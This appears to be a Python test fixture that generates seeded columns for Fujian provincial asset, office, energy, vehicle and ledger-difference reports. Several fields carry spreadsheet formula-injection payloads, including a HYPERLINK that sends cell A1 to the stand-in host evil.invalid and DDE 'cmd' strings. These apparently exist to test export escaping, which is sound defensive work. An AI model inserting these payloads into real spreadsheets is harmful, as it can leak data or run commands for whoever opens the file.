"""Columns of seven small reports, seeded, with names that spreadsheets would compute."""

import random
from typing import Any

from twin.reports import Heading, Words

HEADING = Heading(
    as_of="2026-10-31",
    scope=Words("福建省直机关（60 个单位）", "provincial units of Fujian (60)"),
    sources=(Words("资产卡片 assets-2026.csv，第 4 次导入", "asset cards assets-2026.csv, revision 4"), "sha256 4f2c9e"),
    made_at="2026-11-02T08:30:00+00:00",
)

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["-", "—", "-12.5", "+86", "办公桌 = 桌", "A=B", "'already", ""]

CLASSES = [
    ("A01", Words("房屋和构筑物", "buildings and structures")),
    ("A02", Words("设备", "equipment")),
    ("A03", Words("文物和陈列品", "relics and exhibits")),
    ("A04", Words("图书和档案", "books and archives")),
    ("A05", Words("家具和用具", "furniture and utensils")),
    ("A08", Words("无形资产", "intangible assets")),
]
UNITS = ["省机关事务管理局", "省财政厅", "省发展和改革委员会", "=1+1 单位", "省教育厅", "省水利厅"]

LEDGERS = Words("账账", "ledger–ledger")

Columns = dict[str, list[Any]]


def stock(seed: int = 1) -> Columns:
    """One row for each unit and class."""
    rng = random.Random(seed)
    rows = [(unit, code, name) for unit in UNITS for code, name in CLASSES]
    return {
        "unit": [unit for unit, _, _ in rows],
        "class_code": [code for _, code, _ in rows],
        "class_name": [name for _, _, name in rows],
        "cards": [rng.randrange(1, 4000) for _ in rows],
        "value": [rng.randrange(1, 10**10) for _ in rows],
        "net_value": [rng.randrange(1, 10**9) for _ in rows],
    }


def annual(seed: int = 1) -> Columns:
    """Six classes of which the third does not balance by 100.01 yuan and one card."""
    rng = random.Random(seed)
    columns: Columns = {"class_code": [code for code, _ in CLASSES], "class_name": [name for _, name in CLASSES]}
    for what, top in (("cards", 5000), ("value", 10**11)):
        for movement in ("opening", "added", "disposed"):
            columns[f"{movement}_{what}"] = [rng.randrange(top // (1 if movement == "opening" else 20)) for _ in CLASSES]
        parts = zip(columns[f"opening_{what}"], columns[f"added_{what}"], columns[f"disposed_{what}"], strict=True)
        columns[f"closing_{what}"] = [opening + added - disposed for opening, added, disposed in parts]
    columns["closing_cards"][2] -= 1
    columns["closing_value"][2] += 10_001
    return columns


def titles() -> Columns:
    """Three titles: one as in the ledger, one with 3.5 m² more, one without an area."""
    return {
        "code": ["闽(2016)福州市不动产权第0001234号", "榕房权证R字第12345号", "闽A12345 行驶证"],
        "nature": [Words("不动产权证", "real estate title"), Words("房屋所有权证", "house title"), Words("行驶证", "vehicle licence")],
        "holder": UNITS[:3],
        "building": ["A座", "B座", None],
        "plate": [None, None, "闽A12345"],
        "area": [1200.5, 803.5, None],
        "ledger_area": [1200.5, 800.0, None],
        "issued": ["2016-05-01", "2003-11-24", "2024-02-29"],
    }


def rooms(count: int = 40, seed: int = 1) -> Columns:
    """Offices of 15 to 30 m² for one 正处级 each; over 18 m² is over."""
    rng = random.Random(seed)
    areas = [round(rng.uniform(12, 30), 2) for _ in range(count)]
    over = [area > 18 for area in areas]
    return {
        "building": ["A座"] * count,
        "storey": [f"{at // 10 + 1}层" for at in range(count)],
        "number": [f"A{at // 10 + 1}{at % 10 + 1:02d}" for at in range(count)],
        "used_by": [UNITS[at % len(UNITS)] for at in range(count)],
        "who": [f"张{at}" for at in range(count)],
        "people": [1] * count,
        "usable_area": areas,
        "allowed_area": [18.0] * count,
        "over_area": [round(area - 18, 2) if high else None for area, high in zip(areas, over, strict=True)],
        "verdict": ["over" if high else "within" for high in over],
        "verdict_words": [Words("超标", "over") if high else Words("达标", "within") for high in over],
        "reason": [Words("发改投资〔2014〕2674号 · 正处级 18 m²", "NDRC (2014) 2674 · division chief 18 m²")] * count,
    }


def energy() -> tuple[Columns, Columns]:
    """Four units, of which one has no area and one no people; two years of months."""
    units: Columns = {
        "unit": UNITS[:4],
        "kind": [Words("党政机关", "party and government")] * 4,
        "electricity": [120_000.0, 80_000.0, 55_000.0, 10_000.0],
        "water": [4000.0, 3000.0, 1000.0, 200.0],
        "used": [14_748.0, 9_832.0, 6_759.5, 1_229.0],
        "area": [1000.0, 1200.0, None, 400.0],
        "people": [100, 90, 40, 0],
        "median": [10.0] * 4,
    }
    months = [f"{year}-{month:02d}" for year in (2024, 2025) for month in range(1, 13)]
    return units, {"month": months, "used": [1000.0 + 400.0 * abs((at % 12) - 6) for at in range(24)]}


def vehicles() -> Columns:
    """Four vehicles, one of them new energy, one without a date."""
    return {
        "plate": ["闽A12345", "闽AD12345", "闽O00001警", "闽A99999"],
        "vin": ["LSVAA4187C2184847", None, None, None],
        "brand": ["大众帕萨特", "比亚迪汉", "红旗H5", "=cmd|'/C calc'!A0"],
        "body": [Words("轿车", "saloon")] * 4,
        "energy": [Words("汽油", "petrol"), Words("纯电动", "electric"), Words("汽油", "petrol"), Words("汽油", "petrol")],
        "unit": [UNITS[0], UNITS[0], UNITS[1], UNITS[2]],
        "price": [17_999_900, 21_980_050, 15_000_000, None],
        "purchased": ["2019-06-30", "2023-01-15", "2020-12-31", None],
        "state": [Words("在用", "in use")] * 4,
    }


def differences() -> Columns:
    """One difference of each kind and one more between ledgers."""
    return {
        "kind": [LEDGERS, Words("账卡", "ledger–card"), Words("账实", "ledger–place"), Words("账证", "ledger–title"), LEDGERS],
        "code": ["TY0001", "TY0002", "TY0003", "TY0004", "TY0005"],
        "name": [*FORMULAS[:4], "打印机"],
        "what": [Words("原值不一致", "value differs")] * 5,
        "left_value": ["1,000.00", "3", "A203", "1200.50 m²", "5.00"],
        "right_value": ["900.00", "2", "B101", "1200.00 m²", "6.00"],
        "value_gap": [10_000, None, None, None, -100],
    }
